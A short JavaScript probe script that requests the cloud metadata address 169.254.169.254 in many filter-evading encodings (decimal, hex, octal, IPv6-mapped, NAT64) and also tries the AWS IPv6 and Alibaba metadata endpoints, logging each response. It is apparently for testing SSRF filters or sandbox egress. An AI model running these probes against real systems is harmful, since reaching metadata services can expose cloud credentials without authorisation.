const t = async (name, ...request) => {
  let told;
  try {
    const response = await fetch(...request);
    told = response.status + ' ' + (await response.text()).slice(0, 400);
  } catch (error) { told = error.reason ?? String(error); }
  console.log(name + ' -> ' + told);
};
const all = async (urls) => { for (const url of urls) await t(url, url); };
await all([
  "http://169.254.169.254/",
  "http://2852039166/",
  "http://0xa9fea9fe/",
  "http://025177524776/",
  "http://169.254.43518/",
  "http://0xa9.254.0251.254/",
  "http://[::ffff:169.254.169.254]/",
  "http://[::ffff:a9fe:a9fe]/",
  "http://[64:ff9b::a9fe:a9fe]/",
  "http://[fd00:ec2::254]/",
  "http://[fd00:0ec2:0:0:0:0:0:254]/",
  "http://100.100.100.200/",
]);
